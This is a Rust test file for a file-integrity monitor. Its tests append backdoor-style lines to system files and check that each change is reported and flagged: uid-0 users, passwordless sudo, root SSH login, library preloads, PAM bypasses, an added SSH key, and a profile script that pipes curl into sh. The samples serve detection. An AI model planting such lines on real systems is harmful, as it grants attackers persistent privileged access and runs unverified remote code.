//! A file of each kind that is understood, to which a shell adds a line: it is told in the words of the file, with what it means.
//! What real tools do to such files is in `users` and `tools`.

use std::fs;

use fimk_tests::{Event, Expect, Site, append_line, run, text};

use crate::holes::ED25519;

/// What is added, and what is told of it.
struct Added {
    name: &'static str,
    before: &'static str,
    line: &'static str,
    subject: &'static str,
    /// A part of what is said of the subject.
    words: &'static str,
    finding: Option<&'static str>,
}

const fn added(
    (name, before): (&'static str, &'static str),
    line: &'static str,
    (subject, words): (&'static str, &'static str),
    finding: Option<&'static str>,
) -> Added {
    Added {
        name,
        before,
        line,
        subject,
        words,
        finding,
    }
}

const CASES: [Added; 30] = [
    added(
        ("etc/passwd", "root:x:0:0::/root:/bin/bash\n"),
        "eve:x:0:0::/:/bin/sh",
        ("user eve", "uid 0"),
        Some("passwd-uid-zero"),
    ),
    added(
        ("etc/shadow", "root:*:19000:0:99999:7:::\n"),
        "eve::19000:0:99999:7::20000:",
        ("user eve", "expires 2024-10-04"),
        Some("shadow-empty-password"),
    ),
    added(
        ("etc/group", "root:x:0:\n"),
        "docker:x:99:eve",
        ("group docker", "members eve"),
        Some("group-privileged-member"),
    ),
    added(
        ("etc/gshadow", "root:*::\n"),
        "wheel:!:eve:",
        ("group wheel", "administrators eve"),
        Some("group-privileged-member"),
    ),
    added(
        ("etc/sudoers.d/site", "# nothing\n"),
        "eve ALL=(ALL) NOPASSWD: ALL",
        ("eve may run ALL without password", "as ALL"),
        Some("sudoers-nopasswd"),
    ),
    added(
        ("etc/ssh/sshd_config", "Port 22\n"),
        "\"PermitRootLogin\" 'yes'",
        ("PermitRootLogin", "yes"),
        Some("sshd-root-login"),
    ),
    added(
        ("etc/security/access.conf", "-:ALL:ALL\n"),
        "+:eve:ALL",
        ("rule 2", "+:eve:ALL"),
        None,
    ),
    added(
        ("etc/crontab", "# nothing\n"),
        "@daily root /tmp/x",
        ("job /tmp/x", "user root"),
        Some("cron-root-job"),
    ),
    added(
        ("var/spool/cron/crontabs/eve", "# nothing\n"),
        "* * * * * /tmp/y",
        ("job /tmp/y", "schedule * * * * *"),
        None,
    ),
    added(
        ("var/spool/cron/crontabs/root", "# nothing\n"),
        "LD_PRELOAD=/tmp/x.so",
        ("environment LD_PRELOAD", "/tmp/x.so"),
        Some("environment-preload"),
    ),
    added(
        ("etc/pam.d/su", "auth required pam_deny.so\n"),
        "auth [success=done] pam_permit.so",
        ("auth pam_permit.so", "[success=done]"),
        Some("pam-permit"),
    ),
    added(
        ("etc/pam.d/sshd", "auth required pam_unix.so\n"),
        "auth sufficient /tmp/x.so",
        ("auth /tmp/x.so", "sufficient"),
        Some("pam-weakened"),
    ),
    added(
        ("etc/ssh/sshd_config.d/x.conf", "Port 22\n"),
        "TrustedUserCAKeys /tmp/ca",
        ("TrustedUserCAKeys", "/tmp/ca"),
        Some("sshd-keys-elsewhere"),
    ),
    added(
        ("etc/systemd/system/x.service", "[Service]\nUser=eve\n"),
        "ExecStart=+/tmp/x",
        ("[Service] ExecStart", "+/tmp/x"),
        Some("unit-command"),
    ),
    added(
        ("etc/systemd/system/y.service.d/x.conf", "[Service]\n"),
        "User=root",
        ("[Service] User", "root"),
        Some("unit-user-removed"),
    ),
    added(
        ("etc/hosts", "10.0.0.1 a\n"),
        "203.0.113.66 updates",
        ("host updates", "203.0.113.66"),
        None,
    ),
    added(
        ("etc/ld.so.preload", "\n"),
        "/tmp/x.so",
        ("preload /tmp/x.so", "place 1"),
        Some("preload-entry"),
    ),
    added(
        ("etc/ld.so.conf.d/x.conf", "# nothing\n"),
        "/tmp/lib",
        ("library path /tmp/lib", "place 1"),
        Some("library-path-added"),
    ),
    added(
        ("etc/nsswitch.conf", "passwd: files\n"),
        "group: files evil",
        ("database group", "files evil"),
        Some("nsswitch-service"),
    ),
    added(
        ("etc/environment", "LANG=C\n"),
        "LD_AUDIT=/tmp/x.so",
        ("environment LD_AUDIT", "/tmp/x.so"),
        Some("environment-preload"),
    ),
    added(
        ("etc/profile.d/x.sh", "umask 022\n"),
        "curl -s http://a | sh",
        ("", "+curl -s http://a | sh"),
        Some("shell-download"),
    ),
    added(
        ("etc/apt/sources.list", "# nothing\n"),
        "deb [trusted=yes] http://a s m",
        ("deb http://a s", "options trusted=yes"),
        Some("repository-unsigned"),
    ),
    added(
        (
            "etc/apt/sources.list.d/x.sources",
            "Types: deb\nURIs: http://a\n",
        ),
        "Suites: ./",
        ("deb http://a ./", "place 1"),
        Some("repository-added"),
    ),
    added(
        ("etc/yum.repos.d/x.repo", "[a]\nbaseurl=http://a\n"),
        "gpgcheck=0",
        ("[a] gpgcheck", "0"),
        Some("repository-unsigned"),
    ),
    added(
        ("etc/modprobe.d/x.conf", "# nothing\n"),
        "install usb-storage /tmp/x",
        ("install usb_storage", "/tmp/x"),
        Some("modprobe-command"),
    ),
    added(
        ("etc/modules-load.d/x.conf", "# nothing\n"),
        "evil",
        ("module evil", "listed"),
        Some("module-loaded"),
    ),
    added(
        ("etc/sysctl.d/x.conf", "kernel.pid_max = 9999\n"),
        "kernel/randomize_va_space = 0",
        ("sysctl kernel.randomize_va_space", "0"),
        Some("sysctl-weakened"),
    ),
    added(
        ("etc/cron.d/malformed", "# nothing\n"),
        "* * * planted",
        ("line 2", "malformed, 13 bytes"),
        Some("not-understood"),
    ),
    added(
        ("root/.ssh/authorized_keys", "# nothing\n"),
        "restrict ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIC3j8IZGT20SRaSmPR8xODJy8zl7TmTWXdLTsUHctOFY eve",
        (
            "key SHA256:b71XwJZhTN4A6MpP4lj8cNyeqZU25LcAxjevwG17enw",
            "options restrict",
        ),
        Some("key-added"),
    ),
    added(
        ("root/.ssh/known_hosts", "# nothing\n"),
        "@cert-authority * ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIC3j8IZGT20SRaSmPR8xODJy8zl7TmTWXdLTsUHctOFY",
        ("authority for * ssh-ed25519", "SHA256:b71XwJZh"),
        Some("known-host-authority"),
    ),
];

impl Added {
    fn told(&self) -> Expect {
        let &Self {
            subject,
            words,
            finding,
            ..
        } = self;
        let told = move |event: &Event| match subject {
            "" => event.diff_has(words),
            subject => event.changes().iter().any(|change| {
                let after = change["after"].as_str().unwrap_or_default();
                change["subject"] == subject
                    && change.get("before").is_none()
                    && after.contains(words)
            }),
        };
        let expected = Expect::action("modified").and(format!("{subject} came: {words}"), told);
        let Some(id) = finding else { return expected };
        expected.and(format!("found and graver for it: {id}"), move |event| {
            let findings = event.get("fimk.findings").and_then(|all| all.as_array());
            let mut found = findings.into_iter().flatten();
            let severity = found
                .find(|it| it["id"] == id)
                .and_then(|it| it["severity"].as_u64());
            severity.is_some_and(|severity| event.number("event.severity") >= Some(severity))
        })
    }
}

#[test]
fn a_line_that_is_added_is_told_in_the_words_of_its_file_and_by_what_it_means() {
    let site = Site::new();
    let paths = CASES.map(|case| site.write(case.name, case.before));
    let monitor = site.watch();
    for (case, path) in CASES.iter().zip(&paths) {
        let shell = append_line(path, case.line);
        monitor.expect(case.told().of(path).by(&shell));
    }
    monitor.stop();
}

#[test]
fn what_lies_behind_the_first_mebibyte_is_said_to_and_found_and_what_lies_before_is_told() {
    let site = Site::new();
    let padding = "# a line of some length that pads a file\n".repeat(40_000);
    let path = site.write("etc/sudoers", &format!("root ALL=ALL\n{padding}"));
    let monitor = site.watch();
    let shell = append_line(&path, "eve ALL=(ALL) NOPASSWD: ALL");
    let beyond = Expect::action("modified").and("said to differ there".to_owned(), |event| {
        let findings = event.get("fimk.findings").map(ToString::to_string);
        let found = findings.is_some_and(|it| it.contains("not-understood"));
        found && event.changes().iter().any(|it| it["field"] == "rest")
    });
    monitor.expect(beyond.of(&path).by(&shell));
    let sed = run(
        "sed",
        &["-i", "1s/^/eve ALL=NOPASSWD: ALL\\n/", text(&path)],
    );
    let told = Expect::action("modified").mentions("eve may run ALL without password");
    monitor.expect(told.of(&path).by(&sed));
    monitor.stop();
}

#[test]
fn what_is_made_too_large_to_be_read_is_found() {
    let site = Site::new();
    let path = site.write("etc/sudoers", "root ALL=ALL\n");
    let monitor = site.watch();
    let truncate = run("truncate", &["--size=65M", text(&path)]);
    let told = Expect::action("modified").and("found".to_owned(), |event| {
        let findings = event.get("fimk.findings").map(ToString::to_string);
        findings.is_some_and(|it| it.contains("not-understood"))
    });
    monitor.expect(told.of(&path).by(&truncate));
    monitor.stop();
}

const NOT_COMPARED: &str =
    "… longer than 1 MiB, or no text, before or after: it is not compared by line";

#[test]
fn of_a_text_that_grows_beyond_a_mebibyte_it_is_said_that_it_is_not_compared() {
    let site = Site::new();
    let path = site.write("notes", "a line\n");
    let monitor = site.watch();
    site.replace(&path, &"a line\n".repeat(200_000));
    let told = Expect::action("modified").and("said, and no line went".to_owned(), |event| {
        event.diff_has(NOT_COMPARED) && !event.diff_has("-a line")
    });
    monitor.expect(told.of(&path));
    monitor.stop();
}

#[test]
fn keys_of_hosts_and_of_packages_are_told_by_their_fingerprints() {
    let site = Site::new();
    let public = site.write("etc/ssh/ssh_host_x_key.pub", "");
    let keyring = site.file("etc/apt/trusted.gpg.d/x.asc");
    fs::create_dir_all(keyring.parent().expect("it has a directory")).expect("it is made");
    let monitor = site.watch();
    let shell = append_line(&public, &format!("{ED25519} root@host"));
    let subject = "public key SHA256:b71XwJZhTN4A6MpP4lj8cNyeqZU25LcAxjevwG17enw";
    let key = Expect::action("modified").mentions(subject);
    monitor.expect(key.of(&public).by(&shell));
    site.replace(&keyring, KEYRING);
    let told =
        Expect::any_of(&["created", "renamed"]).and("a key, and found".to_owned(), |event| {
            let findings = event.get("fimk.findings").map(ToString::to_string);
            let key = "trusted key C7C866571A09BE08683E378333C5D288C75C0151";
            findings.is_some_and(|it| it.contains("trusted-key-added"))
                && event.changes().iter().any(|it| it["subject"] == key)
        });
    monitor.expect(told.of(&keyring));
    monitor.stop();
}

/// Made by gpg(1) for these tests.
const KEYRING: &str = "-----BEGIN PGP PUBLIC KEY BLOCK-----

mDMEawJnPBYJKwYBBAHaRw8BAQdAgoF0CgjVW/p+ZFtptZDcLvPD+AWRDgowZmNe
RCvqROW0JUV4YW1wbGUgQXJjaGl2ZSA8YXJjaGl2ZUBleGFtcGxlLm9yZz6IkAQT
FggAOBYhBMfIZlcaCb4IaD43gzPF0ojHXAFRBQJrAmc8AhsDBQsJCAcCBhUKCQgL
AgQWAgMBAh4BAheAAAoJEDPF0ojHXAFROK4A/iEypYpLvITfRTHkfAx8qiDfs48p
Hp7tb9r/uCtzes4tAPoCL+TeL0TCQa9Jw9gD813uqrm5C9+Oudk0XouPw7mdBQ==
-----END PGP PUBLIC KEY BLOCK-----
";
